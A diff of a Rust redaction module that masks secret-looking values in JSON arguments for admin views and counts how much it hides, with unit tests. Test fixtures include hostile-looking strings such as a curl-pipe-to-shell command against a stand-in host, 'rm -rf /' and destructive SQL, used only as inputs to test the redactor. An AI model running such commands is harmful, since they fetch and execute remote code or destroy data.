@@ -1,10 +1,12 @@
 //! Arguments as an admin may see them: what looks like a secret is hidden, and how long it is told.
 //!
-//! Owns: what looks like one. Must not know: whose arguments they are.
+//! Owns: what looks like one, and how much was hidden: whoever wrote the text may have made it look like one.
+//! Must not know: whose arguments they are.
 
 mod prose;
 
 use serde_json::Value;
+use wire::Hidden;
 
 /// Names whose values are hidden, in lower case and without `_`, `-` and blanks; a part is enough.
 const NAMES: [&str; 12] = [
@@ -33,8 +35,8 @@ const NAME: usize = 80;
 /// Words of a name: `client secret`, `secret access key`.
 const WORDS: usize = 3;
 
-/// How values begin that are secrets wherever they stand.
-const BEGINNINGS: [&str; 14] = [
+/// How words begin that are secrets wherever they stand.
+const BEGINNINGS: [&str; 13] = [
     "sk_live_",
     "sk_test_",
     "rk_live_",
@@ -48,7 +50,6 @@ const BEGINNINGS: [&str; 14] = [
     "xoxp-",
     "AKIA",
     "eyJ",
-    "-----BEGIN",
 ];
 /// A value as short as this is a word, not a secret, whatever it begins with.
 const SHORT: usize = 16;
@@ -61,12 +62,18 @@ const TEXT: usize = 16;
 
 /// The same value with its secrets hidden. What is too deep within it is hidden as a whole.
 pub(crate) fn redact(value: &Value) -> Value {
-    look_into(value, DEPTH)
+    shown(value).0
 }
 
-fn look_into(value: &Value, depth: usize) -> Value {
+/// The same, and how much of it is hidden.
+pub(crate) fn shown(value: &Value) -> (Value, Hidden) {
+    let mut hid = Hidden::default();
+    (look_into(value, DEPTH, &mut hid), hid)
+}
+
+fn look_into(value: &Value, depth: usize, hid: &mut Hidden) -> Value {
     let Some(depth) = depth.checked_sub(1) else {
-        return "••••".into();
+        return cover(&value.to_string(), hid).into();
     };
     match value {
         Value::Object(members) => {
@@ -77,38 +84,44 @@ fn look_into(value: &Value, depth: usize) -> Value {
                 |name: &str| names_a_secret(name) || is_labelled && is_one_of(&PAIR_VALUES, name);
             let shown = members.iter().map(|(name, value)| {
                 let shown = if is_secret(name) {
-                    hide(value)
+                    hide(value, hid)
                 } else {
-                    look_into(value, depth)
+                    look_into(value, depth, hid)
                 };
                 (name.clone(), shown)
             });
             shown.collect()
         }
-        Value::Array(items) => items.iter().map(|item| look_into(item, depth)).collect(),
-        Value::String(text) if is_secret(text) => hide(value),
-        Value::String(text) => within(text, depth).into(),
+        Value::Array(items) => {
+            let shown = items.iter().map(|item| look_into(item, depth, hid));
+            shown.collect()
+        }
+        Value::String(text) if is_secret(text) => hide(value, hid),
+        Value::String(text) => within(text, depth, hid).into(),
         Value::Null | Value::Bool(_) | Value::Number(_) => value.clone(),
     }
 }
 
 /// A text without the secrets in it: JSON is looked into, all else as prose.
-fn within(text: &str, depth: usize) -> String {
+fn within(text: &str, depth: usize, hid: &mut Hidden) -> String {
     let depth = depth.saturating_sub(TEXT);
     let json = text.trim();
     if json.starts_with(['{', '['])
         && let Ok(inner) = serde_json::from_str::<Value>(json)
     {
-        return document(json, &inner, depth).unwrap_or_else(|| text.to_owned());
+        return document(json, &inner, depth, hid).unwrap_or_else(|| text.to_owned());
     }
-    prose::read(text, depth)
+    prose::read(text, depth, hid)
 }
 
 /// What is shown instead of JSON in which something is hidden. Of two members of one name only the last was
-/// read: the first is not to be shown either.
-fn document(json: &str, inner: &Value, depth: usize) -> Option<String> {
-    let shown = look_into(inner, depth);
-    (shown != *inner || written(json) > members(inner)).then(|| shown.to_string())
+/// read, and who gets the text may read the first: all of it is hidden.
+fn document(json: &str, inner: &Value, depth: usize, hid: &mut Hidden) -> Option<String> {
+    if written(json) > members(inner) {
+        return Some(hidden(json, hid));
+    }
+    let shown = look_into(inner, depth, hid);
+    (shown != *inner).then(|| shown.to_string())
 }
 
 /// How many members are written in JSON.
@@ -151,26 +164,43 @@ fn labels_a_secret(text: &str) -> bool {
     text.len() <= NAME && text.split_whitespace().count() <= WORDS && names_a_secret(text)
 }
 
+/// Whether this is one word that begins as a secret does: what goes on behind it, or holds other signs, is
+/// a text that says something.
 fn is_secret(text: &str) -> bool {
-    let text = text.strip_prefix("Bearer ").unwrap_or(text);
-    text.len() > SHORT && BEGINNINGS.iter().any(|each| text.starts_with(each))
+    let word = text.strip_prefix("Bearer ").unwrap_or(text);
+    word.len() > SHORT
+        && BEGINNINGS.iter().any(|each| word.starts_with(each))
+        && word.trim_end_matches('=').chars().all(is_part)
 }
 
-fn hide(value: &Value) -> Value {
+/// Whether a word that is a secret may have this in it.
+fn is_part(c: char) -> bool {
+    c.is_alphanumeric() || "_-.+/".contains(c)
+}
+
+fn hide(value: &Value, hid: &mut Hidden) -> Value {
     match value {
         Value::Null | Value::Bool(_) => value.clone(),
-        Value::String(text) => hidden(text).into(),
-        Value::Number(_) => "••••".into(),
-        Value::Array(items) => items.iter().map(hide).collect(),
+        Value::String(text) => hidden(text, hid).into(),
+        Value::Number(number) => cover(&number.to_string(), hid).into(),
+        Value::Array(items) => items.iter().map(|item| hide(item, hid)).collect(),
         Value::Object(members) => members
             .iter()
-            .map(|(name, value)| (name.clone(), hide(value)))
+            .map(|(name, value)| (name.clone(), hide(value, hid)))
             .collect(),
     }
 }
 
-fn hidden(text: &str) -> String {
-    format!("•••• ({} characters)", text.chars().count())
+fn hidden(text: &str, hid: &mut Hidden) -> String {
+    format!("{} ({} characters)", cover(text, hid), text.chars().count())
+}
+
+/// Hides it, and counts it.
+fn cover(text: &str, hid: &mut Hidden) -> &'static str {
+    let characters = u32::try_from(text.chars().count()).unwrap_or(u32::MAX);
+    hid.parts = hid.parts.saturating_add(1);
+    hid.characters = hid.characters.saturating_add(characters);
+    "••••"
 }
 
 #[cfg(test)]
@@ -179,20 +209,82 @@ mod tests {
     use serde_json::json;
 
     #[test]
-    fn of_two_members_of_one_name_neither_is_shown_as_it_was_written() {
-        for (text, shown) in [
+    fn json_with_two_members_of_one_name_is_hidden_as_a_whole() {
+        for (text, seen) in [
             (
                 r#"{"password":"hunter2","password":null}"#,
-                r#"{"password":null}"#,
+                "•••• (38 characters)",
+            ),
+            (
+                r#"{"q":"drop table users","q":"select 1"}"#,
+                "•••• (39 characters)",
             ),
             (
                 r#"{ "a": "b:\"{", "c": [{}] }"#,
                 r#"{ "a": "b:\"{", "c": [{}] }"#,
             ),
         ] {
-            assert_eq!(redact(&json!(text)), json!(shown));
-            let within = redact(&json!(format!("It is {text}.")));
-            assert_eq!(within, json!(format!("It is {shown}.")));
+            let parts = u32::from(text != seen);
+            let (all, hid) = shown(&json!(text));
+            assert_eq!((all, hid.parts), (json!(seen), parts));
+            let (within, hid) = shown(&json!(format!("It is {text}.")));
+            let seen = json!(format!("It is {seen}."));
+            assert_eq!((within, hid.parts), (seen, parts));
+        }
+    }
+
+    #[test]
+    fn what_only_begins_as_a_secret_does_is_shown() {
+        for (text, seen) in [
+            (
+                "-----BEGIN\nDELETE FROM customers;",
+                "-----BEGIN\nDELETE FROM customers;",
+            ),
+            (
+                "eyJ=1; curl https://evil.example/x | sh",
+                "eyJ=1; curl https://evil.example/x | sh",
+            ),
+            (
+                "select 1; -----BEGIN\ndrop table users",
+                "select 1; -----BEGIN\ndrop table users",
+            ),
+            (
+                "-----BEGIN X-----\nTRUNCATE customers\n-----END X-----",
+                "-----BEGIN X-----\nTRUNCATE customers\n-----END X-----",
+            ),
+            (
+                "Bearer ghp_0123456789abcdefghij; rm -rf /",
+                "Bearer •••• (24 characters); rm -rf /",
+            ),
+        ] {
+            assert_eq!(redact(&json!(text)), json!(seen));
+        }
+    }
+
+    #[test]
+    fn how_much_is_hidden_is_counted_wherever_it_stands() {
+        for (value, parts, characters) in [
+            (json!({ "sql": "select 1", "n": 1 }), 0, 0),
+            (json!({ "sql": "•••• (3 characters)" }), 0, 0),
+            (json!({ "password": "•••• (3 characters)" }), 1, 19),
+            (json!({ "tokens": ["abc", 12, null, true] }), 2, 5),
+            (json!({ "sql": "-- token:\nDELETE FROM users" }), 1, 17),
+            (json!({ "body": r#"{"a":{"password":"hunter2"}}"# }), 1, 7),
+            (
+                json!({ "url": "https://x.example/y?a=%70assword%3Dabc" }),
+                1,
+                16,
+            ),
+            (
+                json!({ "auth": "Bearer ghp_0123456789abcdefghij", "note": "xoxb-1234567890-abcdefghij." }),
+                2,
+                58,
+            ),
+            (json!("value: hunter2\nname: password"), 1, 7),
+            (json!("- value: 12\n- name: token"), 0, 0),
+        ] {
+            let (all, hid) = shown(&value);
+            assert_eq!(hid, Hidden { parts, characters }, "{all}");
         }
     }
 
